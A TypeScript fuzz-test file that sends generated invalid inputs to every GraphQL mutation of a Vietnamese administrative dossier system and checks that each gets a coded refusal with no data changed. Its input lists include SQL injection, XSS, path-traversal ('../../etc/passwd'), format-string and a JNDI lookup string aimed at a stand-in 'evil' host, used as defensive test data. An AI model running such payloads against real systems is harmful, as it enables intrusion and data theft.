// Bad input, fuzzed (issue #7): every mutation of `schema.graphql` gets property-based inputs
// (fast-check) over real HTTP, as an ADMIN key and as an AGENCY key: wrong types in the variables,
// 100 kB strings, unicode (emoji, RTL overrides, combining marks, Vietnamese, lone surrogates),
// control characters, SQL / HTML / GraphQL injection strings, unknown codes, and actions in the
// wrong state on real dossiers (a COMPLETED one; an IN_PROGRESS one at the wrong or a PENDING step).
// Every generated input is invalid in at least one field (its "poison"), so the only right answer is
// a coded refusal: never a 5xx, never INTERNAL_SERVER_ERROR, never data, and nothing changed (a
// checksum of every row the input could have touched, before and after each call).
//
// Oversized bodies, deep queries, cost floods, alias and token floods are already covered by
// tests/integration/live-and-limits.test.ts ("limits, request ids and masked errors").
import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { buildSchema } from 'graphql';
import { SAMPLE_AGENCIES } from '../../domain/catalog/sample-agencies';
import { driveToCompletion, sleep, stateOf, submit, waitForState } from '../support/dossier-driver';
import { eventually, startEngine, type EngineHarness } from '../support/engine-harness';

/** Per mutation and key. 15 mutations × 2 keys × 25 runs stays well under a minute and a half. */
const NUM_RUNS = Number(process.env.FUZZ_RUNS ?? 25);

/** The product's error codes (domain/errors.ts) and the API's own refusals; INTERNAL_SERVER_ERROR is never right. */
const PRODUCT_CODES = new Set([
  'VALIDATION_FAILED', 'NOT_FOUND', 'DOSSIER_NOT_FOUND', 'PROCEDURE_NOT_FOUND', 'AGENCY_NOT_FOUND', 'STEP_NOT_FOUND',
  'ESCALATION_NOT_FOUND', 'IDEMPOTENCY_CONFLICT', 'INVALID_TRANSITION', 'FORBIDDEN', 'UNAUTHENTICATED', 'RATE_LIMITED',
  'QUERY_TOO_COMPLEX', 'REQUEST_ENTITY_TOO_LARGE',
]);

let engine: EngineHarness;
const keys = { admin: '', agency: '' };
const keyIds: string[] = [];
/** The receiving desk and the first step's agency of both fixture procedures. */
const DESK = 'UBND_XA_PHU_HOA';
const fixture = { finished: '', active: '', activeIdempotencyKey: '' };
const ACTIVE_PROCEDURE = { code: '1.004227', activeStep: 'xac-nhan-hien-trang', pendingStep: 'kiem-tra-dia-chinh' };
const FINISHED_PROCEDURE = { code: '2.000815', step: 'chung-thuc' };
const KNOWN_AGENCIES = new Set(SAMPLE_AGENCIES.map((a) => a.code));

async function createKey(input: Record<string, unknown>): Promise<{ key: string; id: string }> {
  const created = await engine.graphql(
    'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { key apiKey { id } } }',
    { input },
    engine.adminKey,
  );
  expect(created.errors).toBeUndefined();
  return { key: created.data.createApiKey.key, id: created.data.createApiKey.apiKey.id };
}

beforeAll(async () => {
  engine = await startEngine();
  const admin = await createKey({ role: 'ADMIN', label: 'fuzz admin' });
  const agency = await createKey({ role: 'AGENCY', agencyCode: DESK, label: 'fuzz agency desk' });
  keys.admin = admin.key;
  keys.agency = agency.key;
  keyIds.push(admin.id, agency.id);

  fixture.finished = await submit(engine, FINISHED_PROCEDURE.code);
  await driveToCompletion(engine, fixture.finished);
  fixture.active = await submit(engine, ACTIVE_PROCEDURE.code);
  await waitForState(engine, fixture.active, (s) => s.steps[0].status === 'ACTIVE');
  const row = await engine.db.prisma.dossier.findUniqueOrThrow({ where: { code: fixture.active } });
  fixture.activeIdempotencyKey = row.idempotencyKey;
  // The read model has caught up with both workflows, and nothing moves any more.
  for (const code of [fixture.finished, fixture.active]) {
    const { lastEventSeq } = await stateOf(engine, code);
    await eventually(async () => ((await engine.db.prisma.dossier.findUniqueOrThrow({ where: { code } })).lastEventSeq === lastEventSeq ? true : undefined));
  }
  let previous = '';
  await eventually(async () => {
    const now = await snapshot([]);
    const stable = now === previous;
    previous = now;
    return stable ? true : (await sleep(300), undefined);
  });
}, 120_000);
afterAll(async () => {
  await engine?.stop();
});

// --- what the fuzz is made of ------------------------------------------------------------------

const HUGE = fc.constantFrom('a'.repeat(100_000), 'Đ'.repeat(50_000), '🏛'.repeat(25_000), `${'x'.repeat(99_999)}\u0000`);
const UNICODE = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom(
    'Nguyễn Thị Minh Khai', 'Ủy ban nhân dân xã Phú Hòa', '🏛️📄✅', '\u202Egnp.exe', 'שלום עולם', 'مرحبا', 'e\u0301\u0302\u0303\u0304',
    'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇', '\uFEFFBOM', '\uD800', '\uDFFF lone', '\u2028\u2029', '　full width space', 'ﷺ', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  ),
);
const CONTROL = fc.oneof(
  fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 12 }),
  fc.constantFrom('\u0000', 'abc\u0000def', '\u0007\u0008\u001b[31m', '\r\n\t', '\u007f', 'line\nbreak'),
);
const INJECTION = fc.constantFrom(
  "'; DROP TABLE dossier; --", "' OR '1'='1", '" OR 1=1 --', '1; SELECT pg_sleep(5)', "x' UNION SELECT hash FROM api_key --",
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '{{7*7}}', '${jndi:ldap://evil/a}', '../../etc/passwd',
  '{ __schema { types { name } } }', 'mutation { revokeApiKey(id: "x") { id } }', '") { id } } #', '%00', '\\', '$1', '%s%s%n',
  '{"$where": "1"}', 'null', 'undefined', 'NaN', '__proto__', 'constructor',
);
const UNKNOWN_CODE = fc.oneof(
  fc.constantFrom('NO_SUCH', 'ZZ_NOT_AN_AGENCY', '9.999999', 'UBND_XA_PHU_HOA-000101-9999', 'X-261127-0001', 'X-261127-0001:E1', '00000000-0000-0000-0000-000000000000'),
  fc.stringMatching(/^[A-Z]{3,8}-[0-9]{6}-[0-9]{4}$/),
);
const TEXT = fc.oneof(HUGE, UNICODE, CONTROL, INJECTION, UNKNOWN_CODE, fc.string({ maxLength: 30 }), fc.constant(''), fc.constant('   '));
const WRONG_TYPE = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  fc.constant(2 ** 53),
);
const JSON_FUZZ = fc.oneof(fc.jsonValue({ maxDepth: 3 }), HUGE.map((s) => ({ s })), CONTROL.map((s) => ({ [s]: s })), UNICODE.map((s) => ({ note: s })));
/** Any string that is not a real code, step key or id: a poison where a code is expected. */
const BAD_STRING = TEXT;
/** A bad value where a string is expected: a bad string, a wrong type, or absent. */
const BAD = fc.oneof({ weight: 4, arbitrary: BAD_STRING }, { weight: 2, arbitrary: WRONG_TYPE }, { weight: 1, arbitrary: fc.constant(undefined) });
/** A free-text field: anything (valid text included), since the poison is elsewhere. */
const ANY = fc.oneof(TEXT, WRONG_TYPE, fc.constant(undefined));
const DATE_TIME = fc.oneof(
  fc.constantFrom('2020-01-01T00:00:00Z', '1970-01-01T00:00:00Z', 'not a date', '2027-02-30T09:00:00Z', '99999-01-01T00:00:00Z', '2027-01-01', ''),
  fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
  WRONG_TYPE,
);
const FUTURE_DATE_TIME = fc.constantFrom('2099-01-01T09:00:00+07:00', '2030-06-01T02:00:00Z');
/** A future date-time is a valid new due date: the poisons keep past ones, non-dates and wrong types. (fc.date
 * draws years up to 275760, so "starts with 20" alone let e.g. 9039-07-08 through as a poison.) */
const notAFutureDate = (d: unknown) => {
  if (typeof d !== 'string') return true;
  const at = new Date(d).getTime();
  return at < Date.now() || (Number.isNaN(at) && !d.startsWith('20'));
};

/** `pick` one of the poisons; the other fields are drawn from `rest`. */
function poisoned<T extends Record<string, unknown>>(poisons: fc.Arbitrary<Partial<T>>[], rest: fc.Arbitrary<T>): fc.Arbitrary<T> {
  return fc.tuple(rest, fc.oneof(...poisons)).map(([r, p]) => ({ ...r, ...p }));
}

const dossierCodes = {
  /** Never a dossier that could accept the action. */
  closedOrUnknown: () => fc.oneof({ weight: 3, arbitrary: BAD }, { weight: 2, arbitrary: fc.constant(fixture.finished) }),
  active: () => fc.constant(fixture.active),
};
const wrongStepKey = fc.oneof(BAD, fc.constant(ACTIVE_PROCEDURE.pendingStep), fc.constant(FINISHED_PROCEDURE.step), fc.constant('no-such-step'));
const anyStepKey = () => fc.oneof(ANY, fc.constant(ACTIVE_PROCEDURE.activeStep), fc.constant(FINISHED_PROCEDURE.step));

/** A dossier action (input: { dossierCode, stepKey, ...extra }): closed/unknown dossier with any step, or the active dossier with a wrong step, or `onActiveStep` poisons. */
function stepAction(extra: Record<string, fc.Arbitrary<unknown>>, onActiveStep: fc.Arbitrary<Record<string, unknown>>[] = []) {
  const rest = fc.record({ dossierCode: ANY, stepKey: anyStepKey(), ...extra });
  return poisoned<Record<string, unknown>>(
    [
      fc.record({ dossierCode: dossierCodes.closedOrUnknown() }),
      fc.record({ dossierCode: dossierCodes.active(), stepKey: wrongStepKey }),
      ...onActiveStep.map((p) => p.map((v) => ({ dossierCode: fixture.active, stepKey: ACTIVE_PROCEDURE.activeStep, ...v }))),
    ],
    rest,
  ).map((input) => ({ input }));
}

/** Sometimes the whole argument is of the wrong type. */
const wrapped = (name: string, arb: fc.Arbitrary<Record<string, unknown>>) =>
  fc.oneof({ weight: 9, arbitrary: arb }, { weight: 1, arbitrary: WRONG_TYPE.map((v) => ({ [name]: v })) });

const validStep = (key: string, after?: string[]) => ({ key, name: 'Bước', agencyCode: DESK, workingDays: 1, mode: 'MANUAL', ...(after ? { after } : {}) });
const procedureBase = (code: string) => ({
  code, name: 'Thủ tục thử', onlineLevel: 'FULL', totalWorkingDays: 3, receivingAgencyCode: DESK, steps: [validStep('buoc-mot')],
});
/** Malformed procedure definitions, each with the precise error it must get. */
const MALFORMED_PROCEDURES: { name: string; change: (p: any) => any; error?: { path: string; code: string } }[] = [
  { name: 'no steps', change: (p) => ({ ...p, steps: [] }), error: { path: 'steps', code: 'NO_STEPS' } },
  { name: 'unknown receiving agency', change: (p) => ({ ...p, receivingAgencyCode: 'NO_SUCH_AGENCY' }), error: { path: 'receivingAgencyCode', code: 'UNKNOWN_AGENCY' } },
  { name: 'unknown step agency', change: (p) => ({ ...p, steps: [{ ...validStep('a'), agencyCode: 'NO_SUCH' }] }), error: { path: 'steps[0].agencyCode', code: 'UNKNOWN_AGENCY' } },
  { name: 'a cycle', change: (p) => ({ ...p, steps: [validStep('a', ['b']), validStep('b', ['a'])] }) },
  { name: 'a duplicate key', change: (p) => ({ ...p, steps: [validStep('a'), validStep('a')] }) },
  { name: 'an unknown dependency', change: (p) => ({ ...p, steps: [validStep('a', ['zzz'])] }) },
  { name: 'a bad step key', change: (p) => ({ ...p, steps: [validStep('Bad Key!')] }), error: { path: 'steps[0].key', code: 'INVALID_FIELD' } },
  { name: 'not half days', change: (p) => ({ ...p, steps: [{ ...validStep('a'), workingDays: 0.3 }] }), error: { path: 'steps[0].workingDays', code: 'INVALID_FIELD' } },
  { name: 'zero days', change: (p) => ({ ...p, totalWorkingDays: 0 }), error: { path: 'totalWorkingDays', code: 'INVALID_FIELD' } },
  { name: 'over budget', change: (p) => ({ ...p, totalWorkingDays: 1, steps: [{ ...validStep('a'), workingDays: 2 }] }), error: { path: 'steps[0]', code: 'CRITICAL_PATH_EXCEEDS_BUDGET' } },
  { name: 'a huge name', change: (p) => ({ ...p, name: 'x'.repeat(100_000) }), error: { path: 'name', code: 'INVALID_FIELD' } },
  { name: 'a blank name', change: (p) => ({ ...p, name: '   ' }), error: { path: 'name', code: 'INVALID_FIELD' } },
  { name: 'a negative fee', change: (p) => ({ ...p, feeVnd: -1 }), error: { path: 'feeVnd', code: 'INVALID_FIELD' } },
  { name: 'a bad policy', change: (p) => ({ ...p, policy: { warningBeforeWorkingDays: -1 } }), error: { path: 'policy.warningBeforeWorkingDays', code: 'INVALID_FIELD' } },
  { name: 'an injected code', change: (p) => ({ ...p, code: "1'; DROP TABLE procedure; --" }), error: { path: 'code', code: 'INVALID_FIELD' } },
  { name: 'a 101-step procedure', change: (p) => ({ ...p, totalWorkingDays: 365, steps: Array.from({ length: 101 }, (_, i) => validStep(`s${i}`)) }) },
];
/** Whether a fuzzed value for a field of procedureBase would still make a valid procedure (such runs are skipped). */
const STILL_VALID: Record<string, (v: unknown) => boolean> = {
  code: (v) => typeof v === 'string' && /^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/.test(v.trim()),
  name: (v) => typeof v === 'string' && v.trim().length > 0 && v.trim().length <= 500,
  receivingAgencyCode: (v) => typeof v === 'string' && KNOWN_AGENCIES.has(v.trim()),
  onlineLevel: (v) => v === 'FULL' || v === 'PARTIAL',
  totalWorkingDays: (v) => typeof v === 'number' && v >= 1 && v <= 365 && Number.isInteger(v * 2),
  steps: () => false,
};
let procedureSeq = 0;
const freshProcedureCode = () => `FUZZ.${process.pid}.${Date.now().toString(36)}.${procedureSeq++}`;

const agencyCodeInvalid = BAD_STRING.filter((s) => !/^[A-Z][A-Z0-9_]{0,15}$/.test(s.trim()));
const nonBlank = (arb: fc.Arbitrary<string>) => arb.filter((s) => s.trim().length > 0);
const AGENCY_INPUT = fc.record({
  code: fc.oneof(ANY, fc.constant('FUZZ_OK_AGENCY')),
  name: fc.oneof(ANY, fc.constant('UBND xã Thử')),
  level: fc.oneof(fc.constantFrom('COMMUNE', 'DISTRICT', 'PROVINCE', 'CENTRAL'), ANY),
  parentCode: fc.oneof(ANY, fc.constant(DESK)),
  endpointUrl: fc.oneof(ANY, fc.constant('http://127.0.0.1:9/')),
});

/** One entry per mutation of schema.graphql: the operation and the (always invalid) variables. */
const CASES: Record<string, { operation: string; variables: () => fc.Arbitrary<Record<string, unknown>> }> = {
  completeStep: {
    operation: 'mutation($input: CompleteStepInput!) { completeStep(input: $input) { code status } }',
    variables: () => wrapped('input', stepAction({ result: fc.oneof(JSON_FUZZ, WRONG_TYPE, fc.constant(undefined)) })),
  },
  requestSupplement: {
    operation: 'mutation($input: RequestSupplementInput!) { requestSupplement(input: $input) { code status } }',
    variables: () =>
      wrapped('input', stepAction(
        { items: fc.oneof(fc.array(ANY, { maxLength: 4 }), WRONG_TYPE, HUGE.map((s) => [s])), note: ANY },
        [fc.record({ items: fc.oneof(fc.constant([]), fc.constant(['   ']), fc.constant(['ok', '']), WRONG_TYPE.filter((v) => !Array.isArray(v) && typeof v !== 'string'), fc.constant([null])) })],
      )),
  },
  provideSupplement: {
    operation: 'mutation($input: ProvideSupplementInput!) { provideSupplement(input: $input) { code status } }',
    // The active dossier is not waiting for a supplement: wrong state whatever else is sent.
    variables: () =>
      wrapped('input', fc.record({ dossierCode: fc.oneof(dossierCodes.closedOrUnknown(), dossierCodes.active()), lookupKey: ANY, note: ANY }).map((input) => ({ input }))),
  },
  refuseDossier: {
    operation: 'mutation($input: RefuseDossierInput!) { refuseDossier(input: $input) { code status } }',
    variables: () => wrapped('input', stepAction({ reason: ANY }, [fc.record({ reason: fc.oneof(fc.constant(''), fc.constant('   \t\n'), WRONG_TYPE.filter((v) => typeof v !== 'string')) })])),
  },
  withdrawDossier: {
    operation: 'mutation($input: WithdrawDossierInput!) { withdrawDossier(input: $input) { code status } }',
    variables: () => wrapped('input', fc.record({ dossierCode: dossierCodes.closedOrUnknown(), lookupKey: ANY, note: ANY }).map((input) => ({ input }))),
  },
  issueApology: {
    operation: 'mutation($input: IssueApologyInput!) { issueApology(input: $input) { code status } }',
    variables: () =>
      wrapped('input', stepAction(
        { reason: ANY, newDueAt: fc.oneof(DATE_TIME, FUTURE_DATE_TIME) },
        [fc.record({ reason: fc.string({ maxLength: 10 }), newDueAt: fc.oneof(DATE_TIME.filter(notAFutureDate)) })],
      )),
  },
  retryStep: {
    operation: 'mutation($input: RetryStepInput!) { retryStep(input: $input) { code status } }',
    // No step of either fixture is FAILED: the active step itself is a wrong state.
    variables: () => wrapped('input', stepAction({}, [fc.constant({})])),
  },
  acknowledgeEscalation: {
    operation: 'mutation($input: EscalationActionInput!) { acknowledgeEscalation(input: $input) { code status } }',
    variables: () => wrapped('input', fc.record({ escalationId: BAD, note: ANY }).map((input) => ({ input }))),
  },
  resolveEscalation: {
    operation: 'mutation($input: EscalationActionInput!) { resolveEscalation(input: $input) { code status } }',
    variables: () => wrapped('input', fc.record({ escalationId: BAD, note: ANY }).map((input) => ({ input }))),
  },
  submitDossier: {
    operation: 'mutation($input: SubmitDossierInput!) { submitDossier(input: $input) { lookupKey dossier { code } } }',
    variables: () => {
      const applicant = fc.record({
        name: fc.oneof(ANY, fc.constant('Nguyễn Văn Thử')),
        idNumber: fc.oneof(ANY, fc.constant('079190001234')),
        phone: fc.oneof(ANY, fc.constant('0912345678')),
        email: fc.oneof(ANY, fc.constant('thu@example.vn')),
      });
      const rest = fc.record({
        procedureCode: fc.oneof(ANY, fc.constant(ACTIVE_PROCEDURE.code)),
        applicant: fc.oneof({ weight: 5, arbitrary: applicant }, { weight: 1, arbitrary: WRONG_TYPE }),
        channel: fc.oneof(fc.constantFrom('ONLINE', 'COUNTER', 'POST'), ANY),
        formData: fc.oneof(JSON_FUZZ, fc.constant(undefined)),
        idempotencyKey: fc.oneof(ANY, fc.uuid()),
      });
      const badId = BAD_STRING.filter((s) => !/^[0-9A-Za-z]{6,20}$/.test(s.trim()));
      return wrapped('input', poisoned<Record<string, unknown>>(
        [
          fc.record({ procedureCode: BAD.filter((v) => typeof v !== 'string' || !KNOWN_PROCEDURE_CODES.has(v.trim())) }),
          fc.tuple(applicant, badId).map(([a, idNumber]) => ({ applicant: { ...a, idNumber } })),
          fc.tuple(applicant, nonBlank(BAD_STRING).filter((s) => !/^\+?[0-9 .-]{6,20}$/.test(s.trim()))).map(([a, phone]) => ({ applicant: { ...a, idNumber: '079190001234', phone } })),
          fc.record({ channel: BAD }),
          fc.record({ idempotencyKey: fc.oneof(fc.constantFrom('', 'short', 'x'.repeat(129)), WRONG_TYPE) }),
          // The fixture's idempotency key for another applicant: IDEMPOTENCY_CONFLICT.
          fc.constant({ procedureCode: ACTIVE_PROCEDURE.code, channel: 'ONLINE', idempotencyKey: fixture.activeIdempotencyKey, applicant: { name: 'Khác', idNumber: '001099000000' } }),
        ],
        rest,
      ).map((input) => ({ input })));
    },
  },
  createApiKey: {
    operation: 'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { key apiKey { id } } }',
    variables: () =>
      wrapped('input', poisoned<Record<string, unknown>>(
        [
          fc.record({ role: fc.constant('AGENCY'), agencyCode: fc.oneof(BAD.filter((v) => typeof v !== 'string' || !KNOWN_AGENCIES.has(v.trim())), fc.constant(undefined)) }),
          fc.record({ role: fc.constantFrom('PORTAL', 'SUPERVISOR', 'ADMIN'), agencyCode: nonBlank(BAD_STRING) }),
          fc.record({ label: fc.oneof(HUGE, fc.constant('é'.repeat(201))) }),
          fc.record({ role: fc.oneof(BAD, fc.constantFrom('ROOT', 'admin', 'SYSTEM')) }),
        ],
        fc.record({ role: fc.constantFrom('PORTAL', 'AGENCY', 'SUPERVISOR', 'ADMIN'), agencyCode: fc.oneof(ANY, fc.constant(DESK)), label: ANY }),
      ).map((input) => ({ input }))),
  },
  revokeApiKey: {
    operation: 'mutation($id: ID!) { revokeApiKey(id: $id) { id revokedAt } }',
    variables: () => BAD.map((id) => ({ id })),
  },
  upsertAgency: {
    operation: 'mutation($input: UpsertAgencyInput!) { upsertAgency(input: $input) { code } }',
    variables: () =>
      wrapped('input', poisoned<Record<string, unknown>>(
        [
          fc.record({ code: fc.oneof(agencyCodeInvalid, WRONG_TYPE, fc.constant(undefined)) }),
          fc.record({ name: fc.oneof(fc.constantFrom('', '   ', 'x'.repeat(301)), HUGE, WRONG_TYPE) }),
          fc.record({ level: fc.oneof(BAD, fc.constantFrom('WARD', 'commune')) }),
          fc.record({ parentCode: nonBlank(BAD_STRING).filter((s) => !KNOWN_AGENCIES.has(s.trim())) }),
          fc.record({ code: fc.constant('FUZZ_SELF'), parentCode: fc.constant('FUZZ_SELF') }),
          fc.record({ endpointUrl: fc.oneof(fc.constantFrom('javascript:alert(1)', 'ftp://example.vn', 'not a url', '', 'http://', 'file:///etc/passwd'), HUGE, INJECTION, CONTROL) }),
        ],
        AGENCY_INPUT,
      ).map((input) => ({ input }))),
  },
  upsertProcedure: {
    operation: 'mutation($input: ProcedureInput!) { upsertProcedure(input: $input) { version created } }',
    variables: () =>
      wrapped('input', fc.oneof(
        fc.constantFrom(...MALFORMED_PROCEDURES).map((m) => m.change(procedureBase(freshProcedureCode()))),
        // A base with one field replaced by fuzz: the code, the receiving agency, a step's fields, the budget.
        fc.record({
          field: fc.constantFrom('code', 'receivingAgencyCode', 'onlineLevel', 'totalWorkingDays', 'steps', 'name'),
          value: fc.oneof(BAD, fc.double(), fc.integer()),
        }).filter(({ field, value }) => !STILL_VALID[field](value)).map(({ field, value }) => ({ ...procedureBase(freshProcedureCode()), [field]: value })),
        fc.record({ key: BAD, agencyCode: fc.oneof(BAD, fc.constant(DESK)), workingDays: fc.oneof(fc.double(), WRONG_TYPE), mode: fc.oneof(BAD, fc.constant('MANUAL')) })
          .filter((step) => !(typeof step.key === 'string' && /^[a-z][a-z0-9_-]{0,63}$/.test(step.key.trim())))
          .map((step) => ({
          ...procedureBase(freshProcedureCode()),
          steps: [{ ...validStep('a'), ...step }],
        })),
      ).map((input) => ({ input }))),
  },
  setCalendarDays: {
    operation: 'mutation($days: [CalendarDayInput!]!) { setCalendarDays(days: $days) { calendarVersion } }',
    variables: () => {
      const day = fc.record({ date: fc.constantFrom('2031-02-03', '2031-02-04'), working: fc.boolean(), reason: fc.oneof(ANY, fc.constant('Nghỉ bù')) });
      return fc.oneof(
        fc.constant({ days: [] }),
        fc.tuple(day, day).map(([a, b]) => ({ days: [a, { ...b, date: a.date }] })), // a duplicate date
        day.map((d) => ({ days: [{ ...d, reason: 'x'.repeat(301) }] })),
        day.map((d) => ({ days: [{ ...d, date: '1800-01-01' }] })),
        fc.tuple(day, fc.oneof(BAD, fc.constantFrom('2031-02-30', '31/12/2031', '2031-2-3', '20310203'))).map(([d, date]) => ({ days: [{ ...d, date }] })),
        fc.tuple(day, WRONG_TYPE.filter((v) => typeof v !== 'boolean')).map(([d, working]) => ({ days: [{ ...d, working }] })),
        fc.constant({ days: Array.from({ length: 401 }, (_, i) => ({ date: new Date(Date.UTC(2032, 0, 1 + i)).toISOString().slice(0, 10), working: false })) }),
        WRONG_TYPE.map((days) => ({ days })),
      );
    },
  },
};
const KNOWN_PROCEDURE_CODES = new Set(['1.004227', '2.000815', '1.004203', '2.000720', '1.003010']);

// --- the checks ----------------------------------------------------------------------------------

/** Every string in the variables that could name a row (the snapshot looks those rows up). */
function candidates(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') {
    const trimmed = value.trim();
    for (const s of [value, trimmed]) if (s.length > 0 && s.length <= 300 && !s.includes('\u0000')) out.push(s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'));
  } else if (Array.isArray(value)) value.slice(0, 50).forEach((v) => candidates(v, out));
  else if (value && typeof value === 'object') Object.values(value).forEach((v) => candidates(v, out));
  return out;
}

/**
 * A checksum of everything a fuzzed call could change: the fixture dossiers and all their rows, rows
 * named by any string of the input (agencies, procedures and their versions, dossiers by
 * idempotency key, calendar days, API keys), the keys the fuzz keys created, the dossier events
 * they acted in, and their successful audit events.
 */
async function snapshot(named: string[]): Promise<string> {
  const dossiers = [fixture.finished, fixture.active];
  const actors = keyIds.map((id) => `%:${id}`);
  const [row] = await engine.db.sql.query<{ sum: string }>(
    `SELECT md5(coalesce(string_agg(t, E'\\n' ORDER BY t), '')) AS sum FROM (
       SELECT 'd' || to_jsonb(d)::text AS t FROM dossier d WHERE code = ANY($1) OR idempotency_key = ANY($2)
       UNION ALL SELECT 's' || to_jsonb(s)::text FROM dossier_step s WHERE dossier_code = ANY($1)
       UNION ALL SELECT 'e' || to_jsonb(e)::text FROM dossier_event e WHERE dossier_code = ANY($1)
       UNION ALL SELECT 'x' || to_jsonb(x)::text FROM escalation x WHERE dossier_code = ANY($1) OR id = ANY($2)
       UNION ALL SELECT 'l' || to_jsonb(l)::text FROM apology_letter l WHERE dossier_code = ANY($1)
       UNION ALL SELECT 'n' || (to_jsonb(n) - 'sent_at')::text FROM notification n WHERE dossier_code = ANY($1)
       UNION ALL SELECT 'a' || to_jsonb(a)::text FROM agency a WHERE code = ANY($2)
       UNION ALL SELECT 'p' || to_jsonb(p)::text FROM procedure p WHERE code = ANY($2) OR code LIKE 'FUZZ.%'
       UNION ALL SELECT 'v' || to_jsonb(v)::text FROM procedure_version v WHERE procedure_code = ANY($2) OR procedure_code LIKE 'FUZZ.%'
       UNION ALL SELECT 'c' || to_jsonb(c)::text FROM calendar_day c WHERE date = ANY($2)
       UNION ALL SELECT 'k' || to_jsonb(k)::text FROM api_key k WHERE id = ANY($2) OR created_by = ANY($3)
       UNION ALL SELECT 'E' || count(*)::text FROM dossier_event WHERE actor LIKE ANY($4)
       UNION ALL SELECT 'A' || count(*)::text FROM audit_event WHERE principal_id = ANY($3) AND outcome = 'OK'
     ) rows`,
    [dossiers, named, keyIds, actors],
  );
  return row.sum;
}

interface Answer {
  status: number;
  body: { data?: Record<string, unknown> | null; errors?: { message: string; extensions?: { code?: string } }[] };
}
async function post(query: string, variables: unknown, key: string): Promise<Answer> {
  const response = await fetch(engine.api.url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${key}` },
    body: JSON.stringify({ query, variables }),
  });
  const text = await response.text();
  let body: Answer['body'];
  try {
    body = JSON.parse(text) as Answer['body'];
  } catch {
    body = { errors: [{ message: `not JSON: ${text.slice(0, 200)}` }] };
  }
  return { status: response.status, body };
}

const brief = (v: unknown) => {
  const s = JSON.stringify(v, (_k, x: unknown) => (typeof x === 'string' && x.length > 60 ? `${x.slice(0, 60)}…(${x.length})` : x));
  return s.length > 600 ? `${s.slice(0, 600)}…` : s;
};

/** The answer is a coded refusal with nothing changed; anything else fails with the input and the answer. */
function expectRefusal(field: string, variables: unknown, answer: Answer, before: string, after: string): void {
  const { status, body } = answer;
  const codes = (body.errors ?? []).map((e) => e.extensions?.code);
  const problems: string[] = [];
  if (status >= 500) problems.push(`HTTP ${status}`);
  if (codes.length === 0) problems.push('no error');
  if (codes.some((c) => c === undefined || !PRODUCT_CODES.has(c))) problems.push(`codes ${JSON.stringify(codes)}`);
  if (body.data?.[field] != null) problems.push('data returned');
  if (before !== after) problems.push('state changed');
  if (problems.length > 0) {
    throw new Error(`${field}: ${problems.join(', ')}\n  variables: ${brief(variables)}\n  answer: HTTP ${status} ${brief(body)}`);
  }
}

/** Failures report our own short description (100 kB counterexamples would flood the output) and the seed to replay. */
const FC_OPTIONS: fc.Parameters<unknown> = {
  endOnFailure: true,
  reporter(details) {
    if (!details.failed) return;
    const cause = details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance);
    throw new Error(`${cause}\n  (fast-check seed ${details.seed}, path "${details.counterexamplePath}")`);
  },
};

// --- the tests -----------------------------------------------------------------------------------

const SDL = readFileSync(path.join(__dirname, '..', '..', 'schema.graphql'), 'utf8');
const MUTATIONS = Object.keys(buildSchema(SDL).getMutationType()?.getFields() ?? {}).sort();

test('every mutation of schema.graphql has a fuzz case', () => {
  expect(Object.keys(CASES).sort()).toEqual(MUTATIONS);
});

describe.each(['admin', 'agency'] as const)('as an %s key, fuzzed input is refused with a code and changes nothing', (who) => {
  test.each(MUTATIONS)('%s', async (field) => {
    const spec = CASES[field];
    if (!spec) throw new Error(`no fuzz case for ${field}`);
    await fc.assert(
      fc.asyncProperty(spec.variables(), async (variables) => {
        const named = candidates(variables);
        const before = await snapshot(named);
        const answer = await post(spec.operation, variables, keys[who]);
        const after = await snapshot(named);
        expectRefusal(field, variables, answer, before, after);
      }),
      { ...FC_OPTIONS, numRuns: NUM_RUNS },
    );
  });
});

describe('literal (inline) arguments with hostile strings', () => {
  test('a fuzzed string written into the document itself is refused with a code, never a 500', async () => {
    await fc.assert(
      fc.asyncProperty(TEXT, fc.constantFrom('completeStep', 'withdrawDossier', 'resolveEscalation', 'revokeApiKey'), async (text, field) => {
        const literal = JSON.stringify(text);
        const operation = {
          completeStep: `mutation { completeStep(input: { dossierCode: ${literal}, stepKey: ${literal} }) { code } }`,
          withdrawDossier: `mutation { withdrawDossier(input: { dossierCode: ${literal}, note: ${literal} }) { code } }`,
          resolveEscalation: `mutation { resolveEscalation(input: { escalationId: ${literal} }) { code } }`,
          revokeApiKey: `mutation { revokeApiKey(id: ${literal}) { id } }`,
        }[field]!;
        const key = field === 'revokeApiKey' ? keys.admin : keys.agency;
        const named = candidates(text);
        const before = await snapshot(named);
        const answer = await post(operation, {}, key);
        expectRefusal(field, text, answer, before, await snapshot(named));
      }),
      { ...FC_OPTIONS, numRuns: NUM_RUNS * 2 },
    );
  });
});

describe('malformed procedure definitions get precise errors', () => {
  test.each(MALFORMED_PROCEDURES.map((m) => [m.name, m] as const))('%s', async (_name, malformed) => {
    const input = malformed.change(procedureBase(freshProcedureCode()));
    const answer = await post(CASES.upsertProcedure.operation, { input }, keys.admin);
    expect(answer.status).toBeLessThan(500);
    expect(answer.body.errors?.map((e) => e.extensions?.code)).toEqual(['VALIDATION_FAILED']);
    const details = (answer.body.errors?.[0].extensions as { details?: { errors?: { path: string; code: string; message: string }[] } }).details;
    expect(details?.errors?.length).toBeGreaterThan(0);
    for (const error of details!.errors!) expect(error).toEqual({ path: expect.any(String), code: expect.any(String), message: expect.any(String) });
